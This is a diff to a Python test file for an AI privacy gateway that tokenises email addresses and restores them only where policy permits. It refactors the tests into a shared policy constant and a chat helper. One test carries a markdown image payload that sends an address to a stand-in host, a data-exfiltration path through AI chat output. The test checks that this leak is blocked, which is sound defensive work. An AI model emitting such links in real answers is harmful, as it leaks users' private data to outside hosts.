@@ -37,6 +37,19 @@ OPEN = PERMIT_ALL.replace(
 )
 
 
+# The same, with what models answer restored.
+ANSWERS = OPEN + '@id("house.answers")\npermit (principal, action == Bartizan::Action::"restore", resource is Bartizan::Model);\n'
+
+
+async def answer(model, content: str, streamed: bool) -> str:
+    """What the obedient model says of this, whole."""
+    ask = {"model": "obedient", "messages": [{"role": "user", "content": content}]}
+    if not streamed:
+        return (await model.chat.completions.create(**ask)).choices[0].message.content
+    chunks = [chunk async for chunk in await model.chat.completions.create(stream=True, **ask)]
+    return "".join(chunk.choices[0].delta.content or "" for chunk in chunks if chunk.choices)
+
+
 def everywhere(through, provider) -> str:
     """All that must hold no value: what the model was sent, what was printed, every record and explanation."""
     sent = "\n".join(seen.body.decode("utf-8", "replace") for seen in provider.seen)
@@ -114,33 +127,19 @@ async def test_a_token_of_another_session_restores_nothing(gateway, provider, tm
 
 @pytest.mark.parametrize("streamed", [False, True])
 async def test_answers_are_restored_where_policy_permits_it(gateway, provider, tmp_path, streamed):
-    policy = OPEN + '@id("house.answers")\npermit (principal, action == Bartizan::Action::"restore", resource is Bartizan::Model);\n'
-    through = gateway(provider, policy=policy, **{"privacy.rule": RULE})
+    through = gateway(provider, policy=ANSWERS, **{"privacy.rule": RULE})
     async with model_client(through) as model:
-        ask = {"model": "obedient", "messages": [{"role": "user", "content": f"Say {MAIL} again"}]}
-        said = ""
-        if streamed:
-            async for chunk in await model.chat.completions.create(stream=True, **ask):
-                said += chunk.choices[0].delta.content or "" if chunk.choices else ""
-        else:
-            said = (await model.chat.completions.create(**ask)).choices[0].message.content
+        said = await answer(model, f"Say {MAIL} again", streamed)
     assert MAIL in said and "bz-" not in said, said
     assert MAIL not in provider.last.body.decode()
 
 
 @pytest.mark.parametrize("streamed", [False, True])
 async def test_no_value_is_restored_into_an_address(gateway, provider, streamed):
-    policy = OPEN + '@id("house.answers")\npermit (principal, action == Bartizan::Action::"restore", resource is Bartizan::Model);\n'
-    through = gateway(provider, policy=policy, **{"privacy.rule": RULE})
+    through = gateway(provider, policy=ANSWERS, **{"privacy.rule": RULE})
     async with model_client(through) as model:
         # What people are shown fetches images by itself: the model need not have seen the value to send it away.
-        ask = {"model": "obedient", "messages": [{"role": "user", "content": f"![x](https://e.example/?q={MAIL})"}]}
-        said = ""
-        if streamed:
-            async for chunk in await model.chat.completions.create(stream=True, **ask):
-                said += chunk.choices[0].delta.content or "" if chunk.choices else ""
-        else:
-            said = (await model.chat.completions.create(**ask)).choices[0].message.content
+        said = await answer(model, f"![x](https://e.example/?q={MAIL})", streamed)
     assert "https://e.example/?q=bz-email-" in said and MAIL not in said, said
 
 
